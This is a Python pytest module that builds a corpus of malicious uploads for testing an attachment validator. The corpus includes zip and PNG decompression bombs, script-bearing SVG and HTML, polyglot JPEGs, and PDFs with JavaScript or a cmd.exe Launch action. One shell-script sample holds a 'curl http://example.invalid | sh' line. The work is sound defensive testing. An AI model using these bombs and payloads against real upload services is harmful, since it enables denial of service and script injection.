"""The attachment tests' corpus, built in the test from nothing downloaded: good files of every
accepted type and a malicious upload corpus (zip bombs, script in SVG/HTML, polyglots, active
PDFs, decompression bombs, a GPS-tagged photo)."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import ExifTags, Image

GPS = {1: "N", 2: (35.0, 41.0, 30.0), 3: "E", 4: (51.0, 23.0, 15.0)}  # a place in Tehran


@pytest.fixture(autouse=True, name="private_media")
def private_media_fixture(settings, tmp_path):
    """Every attachment test stores its files in its own empty directory."""
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private_media"
    return settings.PRIVATE_MEDIA_ROOT


def stored_files(root) -> list:
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


def image_bytes(fmt="JPEG", size=(64, 48), mode="RGB", **save) -> bytes:
    image = Image.new(mode, size)
    for x in range(size[0]):
        for y in range(size[1]):
            value = (x * 4 % 256, y * 5 % 256, (x + y) % 256, 255)[: len(mode)] if mode != "L" else x % 256
            image.putpixel((x, y), value)
    out = io.BytesIO()
    image.save(out, fmt, **save)
    return out.getvalue()


def jpeg() -> bytes:
    return image_bytes("JPEG")


def png() -> bytes:
    return image_bytes("PNG", mode="RGBA")


def webp() -> bytes:
    return image_bytes("WEBP")


def gps_jpeg() -> bytes:
    """A phone photo: camera make and model, GPS position, a comment and rotated by EXIF."""
    exif = Image.Exif()
    exif[0x010F] = "GloCam"  # Make
    exif[0x0110] = "Model 7"  # Model
    exif[0x0112] = 6  # Orientation: rotate 90 degrees to show upright
    exif[ExifTags.IFD.GPSInfo] = GPS
    return image_bytes("JPEG", size=(60, 30), exif=exif, comment=b"shot at the safe house")


def pdf(catalog_extra: bytes = b"", body_extra: bytes = b"", tail: bytes = b"") -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>\nendobj\n"
        b"4 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf 20 100 Td (Medical report) Tj ET\nendstream\nendobj\n"
        + body_extra
        + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
        + tail
    )


def pdf_with_compressed(dictionary: bytes) -> bytes:
    """A PDF 1.5 object stream hiding a dictionary in Flate-compressed data."""
    data = zlib.compress(b"5 0 " + dictionary)
    stream = b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
    return pdf(body_extra=stream + data + b"\nendstream\nendobj\n")


def zip_bytes(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb() -> bytes:
    """100 MB of zeros in a 100 KB zip, ten times over in nested archives would be worse: one suffices."""
    return zip_bytes({"zeros.bin": b"\0" * (100 * 1024 * 1024)})


def png_bomb(width: int, height: int) -> bytes:
    """A real PNG of width x height black pixels (8-bit grey) whose IDAT inflates to width*height bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    compressor = zlib.compressobj(9)
    row = b"\0" * (width + 1)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def png_header_only(width: int, height: int) -> bytes:
    """A gigantic PNG with almost no pixel data: it must be refused from its header, before decoding."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


SVG_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/victims/')</script></body></html>"


def malicious_corpus() -> dict[str, tuple[str, bytes]]:
    """name -> (file name sent, content): every one must be refused and leave nothing behind."""
    image = jpeg()
    return {
        "zip": ("photos.zip", zip_bytes({"a.txt": b"hello"})),
        "zip bomb": ("bomb.zip", zip_bomb()),
        "zip named as a JPEG": ("photo.jpg", zip_bytes({"a.txt": b"hello"})),
        "Office file with macros (docm is a zip)": (
            "report.docm",
            zip_bytes({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": b"\0macro"}),
        ),
        "old Office file (OLE)": ("report.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024),
        "SVG with script": ("drawing.svg", SVG_SCRIPT),
        "SVG named as PNG": ("drawing.png", SVG_SCRIPT),
        "HTML": ("page.html", HTML),
        "HTML named as PDF": ("report.pdf", HTML),
        "XML": ("data.xml", b'<?xml version="1.0"?><data><name>x</name></data>'),
        "shell script": ("run.sh", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
        "plain text": ("notes.txt", b"Plain text is not accepted: write a case note."),
        "Windows executable": ("setup.exe", b"MZ" + b"\0" * 512),
        "GIF": ("anim.gif", image_bytes("GIF", mode="P")),
        "JPEG with HTML appended": ("photo.jpg", image + b"<html><script>alert(1)</script></html>"),
        "JPEG with a zip appended (GIFAR-like)": ("photo.jpg", image + zip_bytes({"Evil.class": b"\xca\xfe\xba\xbe"})),
        "JPEG with a PDF inside": ("photo.jpg", image + pdf()),
        "JPEG with script in its comment": ("photo.jpg", image_bytes("JPEG", comment=b"<script>alert(1)</script>")),
        "PNG with HTML in a text chunk": ("photo.png", image_bytes("PNG", pnginfo=_pnginfo("<svg onload=alert(1)>"))),
        "truncated JPEG": ("photo.jpg", image[: len(image) // 2]),
        "JPEG header then garbage": ("photo.jpg", b"\xff\xd8\xff\xe0" + b"\x13" * 4000),
        "decompression bomb PNG (64 megapixels)": ("bomb.png", png_bomb(8000, 8000)),
        "decompression bomb PNG header (10 gigapixels)": ("bomb.png", png_header_only(100_000, 100_000)),
        "PDF with JavaScript on open": ("report.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
        "PDF with a JavaScript name tree": ("report.pdf", pdf(b"/Names << /JavaScript 9 0 R >>")),
        "PDF with an escaped /J#61vaScript name": ("report.pdf", pdf(b"/Names << /J#61vaScript 9 0 R >>")),
        "PDF with JavaScript hidden in an object stream": (
            "report.pdf",
            pdf_with_compressed(b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"),
        ),
        "PDF with a Launch action": ("report.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
        "PDF with an indirect OpenAction": ("report.pdf", pdf(b"/OpenAction 9 0 R")),
        "PDF with an embedded file": ("report.pdf", pdf(b"/Names << /EmbeddedFiles 9 0 R >>")),
        "PDF with an XFA form": ("report.pdf", pdf(b"/AcroForm << /XFA 9 0 R >>")),
        "encrypted PDF": (
            "report.pdf",
            pdf(tail=b"").replace(b"<< /Root 1 0 R >>", b"<< /Root 1 0 R /Encrypt 9 0 R >>"),
        ),
        "PDF with HTML after its end": ("report.pdf", pdf(tail=b"<html><script>alert(1)</script></html>")),
        "PDF with a zip after its end": ("report.pdf", pdf(tail=zip_bytes({"a": b"b"}))),
        "PDF without an end": ("report.pdf", pdf()[:-7]),
        "empty file": ("empty.pdf", b""),
    }


def _pnginfo(text: str):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return info


def _sample(labels):
    corpus = malicious_corpus()
    return {label: corpus[label] for label in labels}


# A few of each family for the API (the page tests run the whole corpus).
CORPUS_SAMPLE = _sample(
    [
        "zip bomb",
        "SVG with script",
        "HTML named as PDF",
        "JPEG with a zip appended (GIFAR-like)",
        "PDF with JavaScript hidden in an object stream",
        "decompression bomb PNG header (10 gigapixels)",
        "empty file",
    ]
)
